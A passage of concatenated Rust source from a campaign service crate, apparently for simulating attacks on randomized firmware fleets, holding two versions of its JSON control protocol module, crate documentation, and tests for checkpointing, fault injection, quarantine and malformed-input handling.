            ),
        ] {
            assert!(CampaignSpec::from_json(bad).is_err(), "accepted {why}");
        }
    }
}
