//! The service's newline-delimited JSON control protocol.
//!
//! One request per line, one response line per request — the same framing
//! over a Unix socket or stdio, so the protocol is testable with plain
//! strings. Requests are `{"op": ...}` objects:
//!
//! ```text
//! {"op":"submit","spec":{...}}        create/adopt a campaign
//! {"op":"status"}                     all campaigns
//! {"op":"status","campaign":"name"}   one campaign
//! {"op":"run","campaign":"name","max_jobs":N,"max_shards":K}
//!                                     execute a bounded work slice
//! {"op":"merge","campaign":"name"}    fold shards into report.json
//! {"op":"stats"}                      service supervision counters
//! {"op":"shutdown"}                   stop the server loop
//! ```
//!
//! Every response carries `"ok"`; failures are `{"ok":false,"error":...}`
//! — a malformed line never kills the service.
//!
//! [`Service`] takes `&self` everywhere: the socket server shares one
//! instance across protocol workers and the background executor thread.
//! Sessions sit behind a mutex, slice execution is serialized by a
//! dedicated `exec` lock, and `status`/`submit`/`stats` never touch that
//! lock — so the service answers `status` while a shard is mid-run.

use crate::faultfs::FaultFs;
use crate::json::Json;
use crate::runner::{merge_store, CampaignSession};
use crate::spec::CampaignSpec;
use crate::store::CampaignStore;
use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use telemetry::Telemetry;

/// What the transport loop should do after a response.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Control {
    /// Keep serving.
    Continue,
    /// Stop the server loop (a `shutdown` request).
    Shutdown,
}

/// Monotonic supervision counters, exposed by the `stats` op. All relaxed
/// atomics — they order nothing, they only count.
#[derive(Debug, Default)]
pub struct ServiceStats {
    /// Protocol requests handled (including ones answered `"ok":false`).
    pub requests: AtomicU64,
    /// Requests answered `"ok":false`.
    pub errors: AtomicU64,
    /// Connections rejected with the typed `busy` response because the
    /// in-flight queue was full.
    pub busy_rejected: AtomicU64,
    /// Requests rejected for exceeding the line-size cap.
    pub oversized: AtomicU64,
    /// Durable writes the degradation ladder skipped (checkpoint or
    /// finalized stream) — work re-ran instead of aborting.
    pub checkpoint_skipped: AtomicU64,
    /// Work slices executed.
    pub slices: AtomicU64,
    /// Jobs executed across all slices (re-runs included).
    pub jobs_run: AtomicU64,
}

/// Service state: the campaign root plus cached sessions (firmware is
/// linked once per campaign, not once per work slice).
pub struct Service {
    root: PathBuf,
    interrupt: Arc<AtomicBool>,
    sessions: Mutex<HashMap<String, Arc<CampaignSession>>>,
    /// Serializes slice execution: one shard runs at a time no matter how
    /// many protocol workers exist, while read-only ops bypass it.
    exec: Mutex<()>,
    fault_fs: FaultFs,
    stats: ServiceStats,
}

impl Service {
    /// A service over `root`, stopping cooperatively on `interrupt`.
    pub fn new(root: PathBuf, interrupt: Arc<AtomicBool>) -> Self {
        Service {
            root,
            interrupt,
            sessions: Mutex::new(HashMap::new()),
            exec: Mutex::new(()),
            fault_fs: FaultFs::none(),
            stats: ServiceStats::default(),
        }
    }

    /// Route every store this service opens through a disk-fault injector
    /// (chaos harnesses only; the default service never faults).
    #[must_use]
    pub fn with_store_faults(mut self, fault_fs: FaultFs) -> Self {
        self.fault_fs = fault_fs;
        self
    }

    /// The service's supervision counters.
    pub fn stats(&self) -> &ServiceStats {
        &self.stats
    }

    /// Handle one request line; returns the response line (no trailing
    /// newline) and what the transport should do next.
    pub fn handle_line(&self, line: &str) -> (String, Control) {
        self.stats.requests.fetch_add(1, Ordering::Relaxed);
        match self.dispatch(line) {
            Ok((json, control)) => (json.to_text(), control),
            Err(error) => {
                self.stats.errors.fetch_add(1, Ordering::Relaxed);
                (
                    Json::Obj(vec![
                        ("ok".into(), Json::Bool(false)),
                        ("error".into(), Json::str(error)),
                    ])
                    .to_text(),
                    Control::Continue,
                )
            }
        }
    }

    fn dispatch(&self, line: &str) -> Result<(Json, Control), String> {
        let req = Json::parse(line)?;
        let op = req
            .get("op")
            .and_then(Json::as_str)
            .ok_or("request needs a string `op`")?;
        match op {
            "submit" => self.op_submit(&req),
            "status" => self.op_status(&req),
            "run" => self.op_run(&req),
            "merge" => self.op_merge(&req),
            "stats" => self.op_stats(),
            "shutdown" => Ok((
                Json::Obj(vec![
                    ("ok".into(), Json::Bool(true)),
                    ("shutdown".into(), Json::Bool(true)),
                ]),
                Control::Shutdown,
            )),
            other => Err(format!(
                "unknown op `{other}` (submit, status, run, merge, stats, shutdown)"
            )),
        }
    }

    fn op_submit(&self, req: &Json) -> Result<(Json, Control), String> {
        let spec_json = req.get("spec").ok_or("submit needs a `spec` object")?;
        let spec = CampaignSpec::from_json(&spec_json.to_text())?;
        let store = CampaignStore::create(&self.root, spec)?.with_faults(self.fault_fs.clone());
        let plan = store.plan();
        let response = Json::Obj(vec![
            ("ok".into(), Json::Bool(true)),
            ("campaign".into(), Json::str(&store.spec.name)),
            ("total_jobs".into(), Json::num(plan.total_jobs)),
            ("shards".into(), Json::num(plan.shard_count())),
        ]);
        Ok((response, Control::Continue))
    }

    fn op_status(&self, req: &Json) -> Result<(Json, Control), String> {
        let stores = match req.get("campaign").and_then(Json::as_str) {
            Some(name) => vec![CampaignStore::open(&self.root.join(name))?],
            None => CampaignStore::list(&self.root)?,
        };
        let mut rows = Vec::new();
        for store in stores {
            rows.push(store.status()?.to_json());
        }
        Ok((
            Json::Obj(vec![
                ("ok".into(), Json::Bool(true)),
                ("campaigns".into(), Json::Arr(rows)),
            ]),
            Control::Continue,
        ))
    }

    fn op_run(&self, req: &Json) -> Result<(Json, Control), String> {
        let name = req
            .get("campaign")
            .and_then(Json::as_str)
            .ok_or("run needs a `campaign` name")?
            .to_string();
        let budget = match req.get("max_jobs") {
            None => None,
            Some(j) => Some(j.as_u64().ok_or("`max_jobs` must be a u64")? as usize),
        };
        let max_shards = match req.get("max_shards") {
            None => None,
            Some(j) => Some(j.as_u64().ok_or("`max_shards` must be a u64")? as usize),
        };
        let outcome = self.run_slice(&name, budget, max_shards)?;
        let mut fields = vec![
            ("ok".into(), Json::Bool(true)),
            ("campaign".into(), Json::str(name)),
            ("jobs_run".into(), Json::num(outcome.jobs_run as u64)),
            ("done_jobs".into(), Json::num(outcome.done_jobs)),
            ("total_jobs".into(), Json::num(outcome.total_jobs)),
            ("complete".into(), Json::Bool(outcome.complete)),
            ("interrupted".into(), Json::Bool(outcome.interrupted)),
        ];
        if outcome.checkpoints_skipped > 0 {
            fields.push((
                "checkpoints_skipped".into(),
                Json::num(outcome.checkpoints_skipped),
            ));
        }
        Ok((Json::Obj(fields), Control::Continue))
    }

    fn op_merge(&self, req: &Json) -> Result<(Json, Control), String> {
        let name = req
            .get("campaign")
            .and_then(Json::as_str)
            .ok_or("merge needs a `campaign` name")?;
        let store = CampaignStore::open(&self.root.join(name))?.with_faults(self.fault_fs.clone());
        let (report_path, _metrics) = merge_store(&store)?;
        let mut fields = vec![
            ("ok".into(), Json::Bool(true)),
            ("campaign".into(), Json::str(name)),
            (
                "report".into(),
                Json::str(report_path.to_string_lossy().into_owned()),
            ),
        ];
        let quarantined = store.status()?.jobs_quarantined;
        if quarantined > 0 {
            fields.push(("quarantined".into(), Json::num(quarantined)));
        }
        Ok((Json::Obj(fields), Control::Continue))
    }

    fn op_stats(&self) -> Result<(Json, Control), String> {
        let n = |c: &AtomicU64| Json::num(c.load(Ordering::Relaxed));
        Ok((
            Json::Obj(vec![
                ("ok".into(), Json::Bool(true)),
                ("campaignd_requests".into(), n(&self.stats.requests)),
                ("campaignd_errors".into(), n(&self.stats.errors)),
                (
                    "campaignd_busy_rejected".into(),
                    n(&self.stats.busy_rejected),
                ),
                ("campaignd_oversized".into(), n(&self.stats.oversized)),
                (
                    "campaignd_checkpoint_skipped".into(),
                    n(&self.stats.checkpoint_skipped),
                ),
                ("campaignd_slices".into(), n(&self.stats.slices)),
                ("campaignd_jobs_run".into(), n(&self.stats.jobs_run)),
            ]),
            Control::Continue,
        ))
    }

    /// Run one bounded work slice of `name`, creating (and caching) its
    /// session on first use. Slices from concurrent callers serialize on
    /// the `exec` lock; everything else in the protocol stays responsive
    /// while one runs.
    pub fn run_slice(
        &self,
        name: &str,
        budget_jobs: Option<usize>,
        max_shards: Option<usize>,
    ) -> Result<crate::runner::RunOutcome, String> {
        let session = {
            let mut sessions = lock(&self.sessions);
            match sessions.get(name) {
                Some(session) => Arc::clone(session),
                None => {
                    let store = CampaignStore::open(&self.root.join(name))?
                        .with_faults(self.fault_fs.clone());
                    let session = Arc::new(CampaignSession::new(
                        store,
                        Telemetry::off(),
                        Arc::clone(&self.interrupt),
                    )?);
                    sessions.insert(name.to_string(), Arc::clone(&session));
                    session
                }
            }
        };
        let _exec = lock(&self.exec);
        let outcome = session.run(budget_jobs, max_shards)?;
        self.stats.slices.fetch_add(1, Ordering::Relaxed);
        self.stats
            .jobs_run
            .fetch_add(outcome.jobs_run as u64, Ordering::Relaxed);
        self.stats
            .checkpoint_skipped
            .fetch_add(outcome.checkpoints_skipped, Ordering::Relaxed);
        Ok(outcome)
    }

    /// The first campaign with unfinished jobs (service work queue, in
    /// name order), or None when everything is complete.
    pub fn pending_campaign(&self) -> Result<Option<String>, String> {
        for store in CampaignStore::list(&self.root)? {
            let status = store.status()?;
            if !status.complete() {
                return Ok(Some(store.spec.name));
            }
        }
        Ok(None)
    }

    /// Whether the shared interrupt flag has tripped.
    pub fn interrupted(&self) -> bool {
        self.interrupt.load(Ordering::Relaxed)
    }
}

/// Lock a mutex, shrugging off poisoning: a panicked worker must not
/// brick the whole service (the data under every service mutex is valid
/// at all times — sessions are append-only, `exec` guards nothing).
fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}
