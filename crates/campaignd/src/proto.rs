//! The service's newline-delimited JSON control protocol.
//!
//! One request per line, one response line per request — the same framing
//! over a Unix socket or stdio, so the protocol is testable with plain
//! strings. Requests are `{"op": ...}` objects:
//!
//! ```text
//! {"op":"submit","spec":{...}}        create/adopt a campaign
//! {"op":"status"}                     all campaigns
//! {"op":"status","campaign":"name"}   one campaign
//! {"op":"run","campaign":"name","max_jobs":N,"max_shards":K}
//!                                     execute a bounded work slice
//! {"op":"merge","campaign":"name"}    fold shards into report.json
//! {"op":"shutdown"}                   stop the server loop
//! ```
//!
//! Every response carries `"ok"`; failures are `{"ok":false,"error":...}`
//! — a malformed line never kills the service.

use crate::json::Json;
use crate::runner::{merge_store, CampaignSession};
use crate::spec::CampaignSpec;
use crate::store::CampaignStore;
use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::atomic::AtomicBool;
use std::sync::Arc;
use telemetry::Telemetry;

/// What the transport loop should do after a response.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Control {
    /// Keep serving.
    Continue,
    /// Stop the server loop (a `shutdown` request).
    Shutdown,
}

/// Service state: the campaign root plus cached sessions (firmware is
/// linked once per campaign, not once per work slice).
pub struct Service {
    root: PathBuf,
    interrupt: Arc<AtomicBool>,
    sessions: HashMap<String, CampaignSession>,
}

impl Service {
    /// A service over `root`, stopping cooperatively on `interrupt`.
    pub fn new(root: PathBuf, interrupt: Arc<AtomicBool>) -> Self {
        Service {
            root,
            interrupt,
            sessions: HashMap::new(),
        }
    }

    /// Handle one request line; returns the response line (no trailing
    /// newline) and what the transport should do next.
    pub fn handle_line(&mut self, line: &str) -> (String, Control) {
        match self.dispatch(line) {
            Ok((json, control)) => (json.to_text(), control),
            Err(error) => (
                Json::Obj(vec![
                    ("ok".into(), Json::Bool(false)),
                    ("error".into(), Json::str(error)),
                ])
                .to_text(),
                Control::Continue,
            ),
        }
    }

    fn dispatch(&mut self, line: &str) -> Result<(Json, Control), String> {
        let req = Json::parse(line)?;
        let op = req
            .get("op")
            .and_then(Json::as_str)
            .ok_or("request needs a string `op`")?;
        match op {
            "submit" => self.op_submit(&req),
            "status" => self.op_status(&req),
            "run" => self.op_run(&req),
            "merge" => self.op_merge(&req),
            "shutdown" => Ok((
                Json::Obj(vec![
                    ("ok".into(), Json::Bool(true)),
                    ("shutdown".into(), Json::Bool(true)),
                ]),
                Control::Shutdown,
            )),
            other => Err(format!(
                "unknown op `{other}` (submit, status, run, merge, shutdown)"
            )),
        }
    }

    fn op_submit(&mut self, req: &Json) -> Result<(Json, Control), String> {
        let spec_json = req.get("spec").ok_or("submit needs a `spec` object")?;
        let spec = CampaignSpec::from_json(&spec_json.to_text())?;
        let store = CampaignStore::create(&self.root, spec)?;
        let plan = store.plan();
        let response = Json::Obj(vec![
            ("ok".into(), Json::Bool(true)),
            ("campaign".into(), Json::str(&store.spec.name)),
            ("total_jobs".into(), Json::num(plan.total_jobs)),
            ("shards".into(), Json::num(plan.shard_count())),
        ]);
        Ok((response, Control::Continue))
    }

    fn op_status(&mut self, req: &Json) -> Result<(Json, Control), String> {
        let stores = match req.get("campaign").and_then(Json::as_str) {
            Some(name) => vec![CampaignStore::open(&self.root.join(name))?],
            None => CampaignStore::list(&self.root)?,
        };
        let mut rows = Vec::new();
        for store in stores {
            rows.push(store.status()?.to_json());
        }
        Ok((
            Json::Obj(vec![
                ("ok".into(), Json::Bool(true)),
                ("campaigns".into(), Json::Arr(rows)),
            ]),
            Control::Continue,
        ))
    }

    fn op_run(&mut self, req: &Json) -> Result<(Json, Control), String> {
        let name = req
            .get("campaign")
            .and_then(Json::as_str)
            .ok_or("run needs a `campaign` name")?
            .to_string();
        let budget = match req.get("max_jobs") {
            None => None,
            Some(j) => Some(j.as_u64().ok_or("`max_jobs` must be a u64")? as usize),
        };
        let max_shards = match req.get("max_shards") {
            None => None,
            Some(j) => Some(j.as_u64().ok_or("`max_shards` must be a u64")? as usize),
        };
        let outcome = self.run_slice(&name, budget, max_shards)?;
        Ok((
            Json::Obj(vec![
                ("ok".into(), Json::Bool(true)),
                ("campaign".into(), Json::str(name)),
                ("jobs_run".into(), Json::num(outcome.jobs_run as u64)),
                ("done_jobs".into(), Json::num(outcome.done_jobs)),
                ("total_jobs".into(), Json::num(outcome.total_jobs)),
                ("complete".into(), Json::Bool(outcome.complete)),
                ("interrupted".into(), Json::Bool(outcome.interrupted)),
            ]),
            Control::Continue,
        ))
    }

    fn op_merge(&mut self, req: &Json) -> Result<(Json, Control), String> {
        let name = req
            .get("campaign")
            .and_then(Json::as_str)
            .ok_or("merge needs a `campaign` name")?;
        let store = CampaignStore::open(&self.root.join(name))?;
        let (report_path, _metrics) = merge_store(&store)?;
        Ok((
            Json::Obj(vec![
                ("ok".into(), Json::Bool(true)),
                ("campaign".into(), Json::str(name)),
                (
                    "report".into(),
                    Json::str(report_path.to_string_lossy().into_owned()),
                ),
            ]),
            Control::Continue,
        ))
    }

    /// Run one bounded work slice of `name`, creating (and caching) its
    /// session on first use.
    pub fn run_slice(
        &mut self,
        name: &str,
        budget_jobs: Option<usize>,
        max_shards: Option<usize>,
    ) -> Result<crate::runner::RunOutcome, String> {
        if !self.sessions.contains_key(name) {
            let store = CampaignStore::open(&self.root.join(name))?;
            let session =
                CampaignSession::new(store, Telemetry::off(), Arc::clone(&self.interrupt))?;
            self.sessions.insert(name.to_string(), session);
        }
        let session = self.sessions.get(name).expect("just inserted");
        session.run(budget_jobs, max_shards)
    }

    /// The first campaign with unfinished jobs (service work queue, in
    /// name order), or None when everything is complete.
    pub fn pending_campaign(&self) -> Result<Option<String>, String> {
        for store in CampaignStore::list(&self.root)? {
            let status = store.status()?;
            if !status.complete() {
                return Ok(Some(store.spec.name));
            }
        }
        Ok(None)
    }

    /// Whether the shared interrupt flag has tripped.
    pub fn interrupted(&self) -> bool {
        self.interrupt.load(std::sync::atomic::Ordering::Relaxed)
    }
}
