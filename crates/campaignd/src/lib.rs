//! Campaign service for the MAVR fleet engine: million-board campaigns
//! with sharded checkpoints, streaming results, and constant memory.
//!
//! The fleet engine ([`mavr_fleet`]) answers "what happens when this
//! attack meets this randomized fleet" as a pure function of a campaign
//! config. This crate turns that into a *service*: campaigns are
//! submitted as JSON specs, their job space is cut into independently
//! checkpointed shards, per-board outcomes stream to JSONL files the
//! moment they complete, and shard metrics fold through the associative
//! registry merge — so a cell with a million boards costs the same RAM
//! as one with eight. A `merge` pass folds the shard checkpoints into a
//! report **byte-identical** to what one uninterrupted, unsharded run
//! would have produced (a law proptested in the fleet crate), which
//! means sharding, interruption, resumption and multi-tenancy are all
//! invisible in the results.
//!
//! The service is also *supervised*: every board job runs in its own
//! fault domain (a panicking or hanging job is retried with seeded
//! backoff, then quarantined to an explicit ledger — never silently
//! dropped, never fatal to its shard), durable writes ride a bounded
//! retry ladder that degrades to skipping a checkpoint rather than
//! aborting the campaign, and a SIGKILL at any instant resumes to a
//! byte-identical report.
//!
//! Modules, bottom-up:
//! - [`json`]: a minimal JSON tree (the workspace is offline; numbers
//!   keep their lexeme so 64-bit seeds survive).
//! - [`spec`]: the campaign spec — a campaign's identity — and its
//!   mapping onto [`mavr_fleet::CampaignConfig`].
//! - [`faultfs`]: seeded disk-fault injection (EIO/ENOSPC/short write)
//!   under the store's durable-write retry loop.
//! - [`store`]: the on-disk campaign directory and the write-to-temp +
//!   rename discipline that makes every checkpoint crash-safe.
//! - [`runner`]: the shard execution loop, the disk-fault degradation
//!   ladder, and the streaming two-pass merge that also rebuilds the
//!   quarantine ledger.
//! - [`proto`]: the newline-delimited JSON control protocol
//!   (submit/status/run/merge/shutdown).
//! - [`server`]: stdio and Unix-socket transports; the socket server
//!   runs pending shards between accept polls.
//! - [`signal`]: SIGINT/SIGTERM → cooperative interrupt flag, so Ctrl-C
//!   flushes a valid checkpoint instead of tearing one.

#![deny(unsafe_code)]
#![warn(missing_docs)]

pub mod faultfs;
pub mod json;
pub mod proto;
pub mod runner;
pub mod server;
pub mod signal;
pub mod spec;
pub mod store;

pub use faultfs::FaultFs;
pub use proto::{Control, Service, ServiceStats};
pub use runner::{merge_store, CampaignSession, RunOutcome};
pub use server::ServeOptions;
pub use spec::CampaignSpec;
pub use store::{write_file_atomic, CampaignStatus, CampaignStore};
