//! Fault-domain laws of the supervised campaign service: poison jobs end
//! up quarantined exactly once, disk faults degrade to skipped
//! checkpoints (never aborts, never byte drift), and a torn outcome
//! stream repairs itself on resume.

use mavr_campaignd::{merge_store, CampaignSession, CampaignSpec, CampaignStore, FaultFs};
use mavr_fleet::run_campaign_with_metrics;
use std::path::PathBuf;
use std::sync::atomic::AtomicBool;
use std::sync::Arc;
use telemetry::Telemetry;

fn tmp_root(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir()
        .join("mavr-campaignd-tests")
        .join(format!("robust-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn session(store: CampaignStore) -> CampaignSession {
    CampaignSession::new(store, Telemetry::off(), Arc::new(AtomicBool::new(false))).unwrap()
}

const POISON_SPEC: &str = r#"{
    "name": "poison",
    "boards": 2,
    "scenarios": ["benign", "v2"],
    "loss_levels": [0.01],
    "fault_levels": [0.0],
    "warmup_cycles": 50000,
    "attack_cycles": 100000,
    "shard_jobs": 3,
    "sabotage_panic": 1.0,
    "sabotage_seed": 7
}"#;

#[test]
fn quarantine_ledger_accounts_for_every_poison_job_exactly_once() {
    let root = tmp_root("quarantine");
    let spec = CampaignSpec::from_json(POISON_SPEC).unwrap();
    assert_eq!(spec.total_jobs(), 4);
    let store = CampaignStore::create(&root, spec.clone()).unwrap();

    // Every job panics on every attempt, yet the campaign completes.
    let outcome = session(store.clone()).run(None, None).unwrap();
    assert!(outcome.complete, "poison jobs never abort a shard");
    assert_eq!(outcome.checkpoints_skipped, 0);

    // Status and merge expose the degradation explicitly.
    let status = store.status().unwrap();
    assert_eq!(status.jobs_quarantined, 4);
    let (report_path, metrics) = merge_store(&store).unwrap();
    let report = std::fs::read_to_string(&report_path).unwrap();
    assert!(
        report.contains(r#""jobs_quarantined":2"#),
        "per-cell counts"
    );
    assert!(metrics
        .to_prometheus()
        .contains("campaign_jobs_quarantined_total"));

    // The ledger holds one line per quarantined job — and re-merging does
    // not duplicate entries.
    merge_store(&store).unwrap();
    let ledger = std::fs::read_to_string(store.quarantine_path()).unwrap();
    let lines: Vec<&str> = ledger.lines().collect();
    assert_eq!(lines.len(), 4, "{ledger}");
    for (job, line) in lines.iter().enumerate() {
        assert!(line.starts_with(&format!("{{\"job\":{job},")), "{line}");
        assert!(line.contains(r#""failure":"panic""#), "{line}");
        assert!(line.contains(r#""attempts":3"#), "{line}");
    }

    // Sabotage is a chaos-harness knob, not campaign identity: the
    // checkpoints fingerprint the same campaign a clean spec would.
    let mut clean = spec.clone();
    clean.sabotage = mavr_fleet::JobChaos::none();
    assert_eq!(
        mavr_fleet::config_fingerprint(&spec.to_config().unwrap()),
        mavr_fleet::config_fingerprint(&clean.to_config().unwrap()),
    );
}

#[test]
fn store_faults_degrade_to_skipped_checkpoints_never_aborts_or_drift() {
    let root = tmp_root("faultfs");
    let mut spec = CampaignSpec::named("soak");
    spec.boards = 2;
    spec.scenarios = vec![
        mavr_fleet::Scenario::Benign,
        mavr_fleet::Scenario::V2Stealthy,
    ];
    spec.loss_levels = vec![0.01];
    spec.fault_levels = vec![0.0];
    spec.warmup_cycles = 50_000;
    spec.attack_cycles = 100_000;
    spec.shard_jobs = 1;

    // The oracle: one clean, unsharded engine run.
    let (expected, expected_metrics) = run_campaign_with_metrics(&spec.to_config().unwrap());

    // Soak: half of all durable writes fail (EIO/ENOSPC/short write) even
    // after the store's in-write retries have been burned through.
    let store = CampaignStore::create(&root, spec).unwrap();
    let faulty = store.clone().with_faults(FaultFs::seeded(3, 0.75));
    let sess = session(faulty);
    let mut slices = 0;
    loop {
        let outcome = sess.run(None, None).unwrap();
        slices += 1;
        if outcome.complete {
            break;
        }
        assert!(slices < 100, "degradation ladder must converge");
    }
    assert!(
        sess.checkpoints_skipped() > 0,
        "the soak is only a soak if some checkpoints were actually skipped"
    );

    // Merge through a clean store handle: byte-identical to the oracle —
    // disk faults cost retries and re-runs, never result drift.
    let (report_path, metrics) = merge_store(&store).unwrap();
    assert_eq!(
        std::fs::read_to_string(&report_path).unwrap(),
        expected.to_json()
    );
    assert_eq!(metrics.to_prometheus(), expected_metrics.to_prometheus());
    assert!(
        !store.quarantine_path().exists(),
        "no quarantined jobs here"
    );
}

#[test]
fn torn_part_tail_is_repaired_on_resume_not_parsed() {
    let root = tmp_root("torn");
    let mut spec = CampaignSpec::named("torn");
    spec.boards = 4;
    spec.scenarios = vec![mavr_fleet::Scenario::Benign];
    spec.loss_levels = vec![0.01];
    spec.fault_levels = vec![0.0];
    spec.warmup_cycles = 50_000;
    spec.attack_cycles = 100_000;
    spec.shard_jobs = 4;
    let (expected, _) = run_campaign_with_metrics(&spec.to_config().unwrap());

    let store = CampaignStore::create(&root, spec).unwrap();
    let outcome = session(store.clone()).run(Some(2), None).unwrap();
    assert_eq!(outcome.jobs_run, 2);

    // A SIGKILL mid-write leaves a torn final line in the .part stream.
    let part = store.outcomes_part_path(0);
    let intact = std::fs::read_to_string(&part).unwrap();
    assert_eq!(intact.lines().count(), 2);
    std::fs::write(&part, format!("{intact}{{\"scenario\":\"ben")).unwrap();

    // Resume: the torn tail is dropped, the stream stays one valid JSON
    // line per job, and the finalized file matches the oracle exactly.
    let outcome = session(store.clone()).run(None, None).unwrap();
    assert!(outcome.complete);
    let finalized = std::fs::read_to_string(store.outcomes_path(0)).unwrap();
    let lines: Vec<&str> = finalized.lines().collect();
    assert_eq!(lines.len(), 4);
    for (line, outcome) in lines.iter().zip(&expected.outcomes) {
        assert_eq!(line, &outcome.to_json_line());
    }
    assert_eq!(
        std::fs::read_to_string(merge_store(&store).unwrap().0).unwrap(),
        expected.to_json()
    );
}
