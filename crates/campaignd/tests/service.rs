//! End-to-end service laws: a campaign submitted to the service, run in
//! interrupted slices across "process restarts", then merged, produces a
//! report byte-identical to one uninterrupted, unsharded engine run — and
//! the control protocol survives malformed input.

use mavr_campaignd::{merge_store, CampaignSpec, CampaignStore, Service};
use mavr_fleet::run_campaign_with_metrics;
use std::path::PathBuf;
use std::sync::atomic::AtomicBool;
use std::sync::Arc;

fn tmp_root(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir()
        .join("mavr-campaignd-tests")
        .join(format!("{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

const SPEC: &str = r#"{
    "name": "e2e",
    "boards": 2,
    "scenarios": ["benign", "v2"],
    "loss_levels": [0.01],
    "fault_levels": [0.0, 0.0005],
    "attack_cycles": 2500000,
    "shard_jobs": 3
}"#;

#[test]
fn sliced_interrupted_service_run_merges_byte_identical_to_direct_run() {
    let root = tmp_root("e2e");
    let spec = CampaignSpec::from_json(SPEC).unwrap();
    assert_eq!(spec.total_jobs(), 8, "2 scenarios x 2 faults x 2 boards");

    // The oracle: one uninterrupted, unsharded engine run.
    let (expected, expected_metrics) = run_campaign_with_metrics(&spec.to_config().unwrap());

    // Session 1: submit, then run a 2-job slice — that stops *mid-shard*
    // (shards hold 3 jobs).
    let service = Service::new(root.clone(), Arc::new(AtomicBool::new(false)));
    let (resp, _) = service.handle_line(&format!(r#"{{"op":"submit","spec":{}}}"#, spec.to_json()));
    assert!(resp.contains(r#""ok":true"#), "{resp}");
    assert!(resp.contains(r#""shards":3"#), "{resp}");
    let outcome = service.run_slice("e2e", Some(2), None).unwrap();
    assert_eq!(outcome.jobs_run, 2);
    assert!(!outcome.complete);

    // Merging an incomplete campaign is refused, loudly.
    let store = CampaignStore::open(&root.join("e2e")).unwrap();
    let err = merge_store(&store).unwrap_err();
    assert!(err.contains("incomplete"), "{err}");

    // "Process restart": a fresh Service with no cached sessions resumes
    // from the shard checkpoints alone.
    let service = Service::new(root.clone(), Arc::new(AtomicBool::new(false)));
    let status = store.status().unwrap();
    assert_eq!(status.done_jobs, 2, "the slice's jobs survived the restart");
    let outcome = service.run_slice("e2e", None, None).unwrap();
    assert!(outcome.complete);
    assert_eq!(outcome.done_jobs, 8);

    // Merge: byte-identical report and metrics exposition.
    let (report_path, metrics) = merge_store(&store).unwrap();
    let merged = std::fs::read_to_string(&report_path).unwrap();
    assert_eq!(merged, expected.to_json());
    assert_eq!(metrics.to_prometheus(), expected_metrics.to_prometheus());
    assert_eq!(metrics.to_jsonl(), expected_metrics.to_jsonl());

    // The streamed outcome files hold exactly the campaign's boards, in
    // job order, one JSON line each — and agree with the report's rows.
    let mut lines = Vec::new();
    for index in 0..3 {
        let text = std::fs::read_to_string(store.outcomes_path(index)).unwrap();
        lines.extend(text.lines().map(str::to_string));
    }
    assert_eq!(lines.len(), 8);
    for (line, outcome) in lines.iter().zip(&expected.outcomes) {
        assert_eq!(line, &outcome.to_json_line());
    }
    // No in-flight residue after completion.
    assert!(!store.outcomes_part_path(0).exists());
}

#[test]
fn protocol_guardrails_answer_typed_errors_and_keep_the_connection_open() {
    use std::sync::atomic::Ordering;
    let root = tmp_root("guardrails");
    let service = Service::new(root, Arc::new(AtomicBool::new(false)));

    // Malformed JSON, unknown op, and an oversized request each get a
    // typed error on the same connection — which then keeps serving.
    let oversized = format!(r#"{{"op":"status","pad":"{}"}}"#, "x".repeat(2 << 20));
    let input = format!(
        "not json\n{{\"op\":\"frobnicate\"}}\n{oversized}\n{}\n{}\n{}\n",
        r#"{"op":"status"}"#, r#"{"op":"stats"}"#, r#"{"op":"shutdown"}"#,
    );
    let mut output = Vec::new();
    mavr_campaignd::server::serve_lines(&service, input.as_bytes(), &mut output).unwrap();
    let output = String::from_utf8(output).unwrap();
    let lines: Vec<&str> = output.lines().collect();
    assert_eq!(lines.len(), 6, "{output}");
    assert!(lines[0].contains(r#""ok":false"#), "{}", lines[0]);
    assert!(lines[1].contains("unknown op"), "{}", lines[1]);
    assert!(
        lines[2].contains(r#""ok":false"#) && lines[2].contains("exceeds"),
        "{}",
        lines[2]
    );
    assert!(
        lines[3].contains(r#""ok":true"#),
        "the connection still serves after garbage: {}",
        lines[3]
    );
    assert!(
        lines[4].contains(r#""campaignd_oversized":1"#)
            && lines[4].contains(r#""campaignd_errors":2"#),
        "{}",
        lines[4]
    );
    assert!(lines[5].contains(r#""shutdown":true"#));
    assert_eq!(service.stats().oversized.load(Ordering::Relaxed), 1);
}

#[cfg(unix)]
#[test]
fn socket_server_sheds_overload_with_a_typed_busy_response() {
    use mavr_campaignd::server::{request, serve_socket, ServeOptions};
    use std::sync::atomic::Ordering;

    let root = tmp_root("busy");
    let interrupt = Arc::new(AtomicBool::new(false));
    let service = Service::new(root, Arc::clone(&interrupt));
    let sock = std::env::temp_dir().join(format!("mavr-busy-{}.sock", std::process::id()));
    // Queue depth 0: every connection overflows the in-flight queue.
    let opts = ServeOptions {
        workers: 1,
        queue_depth: 0,
        ..ServeOptions::default()
    };
    std::thread::scope(|scope| {
        let server = scope.spawn(|| serve_socket(&service, &sock, std::io::sink(), &opts));
        for _ in 0..400 {
            if sock.exists() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        let resp = request(&sock, r#"{"op":"status"}"#).unwrap();
        assert!(resp.contains(r#""error":"busy""#), "{resp}");
        interrupt.store(true, Ordering::Relaxed);
        server.join().unwrap().unwrap();
    });
    assert!(service.stats().busy_rejected.load(Ordering::Relaxed) >= 1);
}

#[test]
fn protocol_answers_status_and_survives_garbage() {
    let root = tmp_root("proto");
    let service = Service::new(root, Arc::new(AtomicBool::new(false)));

    // Garbage never kills the service.
    for bad in [
        "not json",
        "{}",
        r#"{"op":"frobnicate"}"#,
        r#"{"op":"run"}"#,
    ] {
        let (resp, control) = service.handle_line(bad);
